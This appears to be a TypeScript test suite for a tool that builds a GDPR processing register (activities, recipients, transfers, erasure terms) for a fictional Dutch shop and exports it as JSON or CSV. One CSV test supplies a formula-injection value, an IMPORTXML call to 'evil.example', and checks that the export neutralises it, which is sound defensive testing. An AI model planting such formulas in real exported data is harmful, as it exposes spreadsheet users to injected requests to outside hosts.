import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { readCsv } from '../../test/helpers/csv.ts';
import { loadYamlFile } from '../config/yaml-file.ts';
import { Policy } from './policy.schema.ts';
import { buildRegister, registerToCsv, registerToJson } from './register.ts';

const file = fileURLToPath(new URL('../../test/fixtures/policy/valid-minimal.yaml', import.meta.url));

function minimalPolicy(): Policy {
  const loaded = loadYamlFile(file, Policy);
  if (!loaded.ok) throw new Error(`fixture does not load: ${JSON.stringify(loaded.problems)}`);
  return loaded.value;
}

describe('buildRegister', () => {
  it('lists one activity for every purpose in the policy', () => {
    const policy = minimalPolicy();
    const record = buildRegister(policy);
    assert.deepEqual(
      record.activities.map((a) => a.id),
      policy.purposes.items.map((p) => p.id),
    );
    assert.deepEqual(
      record.activities.map((a) => a.legalBasis),
      ['contract', 'legal-obligation', 'consent'],
    );
  });

  it('names the controller and the privacy contact', () => {
    const { controller } = buildRegister(minimalPolicy());
    assert.equal(controller.name, 'Zonnetje b.v.');
    assert.equal(controller.address.city, 'Zonnedorp');
    assert.deepEqual(controller.privacyContact, { name: 'Anna de Wit', email: 'privacy@zonnetje.example' });
  });

  it('lists as recipients only the parties that receive the activity’s data, with their role', () => {
    const [orders, , statistics] = buildRegister(minimalPolicy()).activities;
    assert.deepEqual(
      orders?.recipients.map((r) => [r.id, r.role, r.categories]),
      [['shop-host', 'processor', ['contact', 'order']]],
    );
    assert.deepEqual(
      statistics?.recipients.map((r) => r.id),
      ['analytics-vendor'],
    );
  });

  it('names a processor that is also a controller for a purpose of its own, with that purpose', () => {
    const policy = minimalPolicy();
    policy.processors[1]!.controllerFor = [
      { purpose: { nl: 'eigen advertenties', en: 'its own advertising' }, basis: undefined },
    ];
    const rows = readCsv(registerToCsv(buildRegister(policy), 'nl'));
    const statistics = rows.find((r) => r[0] === 'statistics')!;
    assert.ok(
      statistics.includes(
        'Google Analytics (verwerker, en voor een eigen doel zelfstandig verwerkingsverantwoordelijke: eigen advertenties)',
      ),
      statistics.join(' | '),
    );
    const orders = rows.find((r) => r[0] === 'fulfil-orders')!;
    assert.ok(orders.includes('Winkelhost (verwerker)'));
  });

  it('records the transfer to a US processor with its safeguard, leaving out its EEA locations', () => {
    const [orders, , statistics] = buildRegister(minimalPolicy()).activities;
    assert.deepEqual(orders?.transfers, []);
    assert.equal(statistics?.transfers.length, 1);
    const transfer = statistics!.transfers[0]!;
    assert.equal(transfer.recipientId, 'analytics-vendor');
    assert.deepEqual(transfer.countries, ['US']);
    assert.equal(transfer.safeguard?.mechanism, 'dpf');
  });

  it('records a transfer without safeguard as such', () => {
    const policy = minimalPolicy();
    delete policy.processors[1]!.transferSafeguard;
    const transfer = buildRegister(policy).activities[2]!.transfers[0]!;
    assert.equal(transfer.safeguard, undefined);
    assert.match(registerToCsv(buildRegister(policy), 'en'), /Google Analytics: .*\(US\), no safeguard stated/);
  });

  it('gives the erasure terms of the retention rules that cover the activity’s data, in words', () => {
    const [orders, , statistics] = buildRegister(minimalPolicy()).activities;
    assert.deepEqual(
      orders?.erasure.map((e) => e.ruleId),
      ['profile', 'invoices'],
    );
    assert.equal(orders?.erasure[1]?.legalHold, 'fiscal');
    assert.match(orders?.erasure[1]?.text.nl ?? '', /7 jaar/);
    assert.match(statistics?.erasure[0]?.text.en ?? '', /14 months/);
  });

  it('carries the data subjects and security measures into each activity', () => {
    for (const a of buildRegister(minimalPolicy()).activities) {
      assert.equal(a.dataSubjects.length, 2);
      assert.equal(a.securityMeasures.length, 2);
    }
  });
});

describe('registerToJson', () => {
  it('writes the record as JSON that reads back to the same record', () => {
    const record = buildRegister(minimalPolicy());
    const json = registerToJson(record);
    assert.ok(json.endsWith('\n'));
    const back = JSON.parse(json);
    assert.deepEqual(back, record);
    assert.deepEqual(Object.keys(back), ['policyVersion', 'effectiveDate', 'controller', 'activities']);
    assert.deepEqual(back.activities[0]?.purpose, { nl: 'Bestellingen leveren', en: 'Delivering orders' });
  });
});

describe('registerToCsv', () => {
  it('writes one row per activity under a header in the chosen language, with CRLF line ends', () => {
    const csv = registerToCsv(buildRegister(minimalPolicy()), 'nl');
    assert.ok(csv.endsWith('\r\n'));
    const rows = readCsv(csv);
    assert.equal(rows.length, 4);
    assert.equal(rows[0]?.[0], 'Activiteit');
    assert.ok(rows.every((r) => r.length === rows[0]?.length));
    assert.equal(rows[1]?.[5], 'Winkelhost (verwerker)');
    assert.equal(readCsv(registerToCsv(buildRegister(minimalPolicy()), 'en'))[0]?.[0], 'Activity');
  });

  it('neutralises a text a spreadsheet would run as a formula with a leading apostrophe', () => {
    const policy = minimalPolicy();
    policy.purposes.items[0]!.name.nl = '=IMPORTXML("https://evil.example","//a")';
    const rows = readCsv(registerToCsv(buildRegister(policy), 'nl'));
    assert.equal(rows[1]?.[1], `'=IMPORTXML("https://evil.example","//a")`);
  });

  it('keeps a purpose with a comma, a quote and a line break intact in one field', () => {
    const policy = minimalPolicy();
    const tricky = 'Leveren, "snel"\nen veilig';
    policy.purposes.items[0]!.name.nl = tricky;
    const rows = readCsv(registerToCsv(buildRegister(policy), 'nl'));
    assert.equal(rows.length, 4);
    assert.equal(rows[1]?.[1], tricky);
  });
});
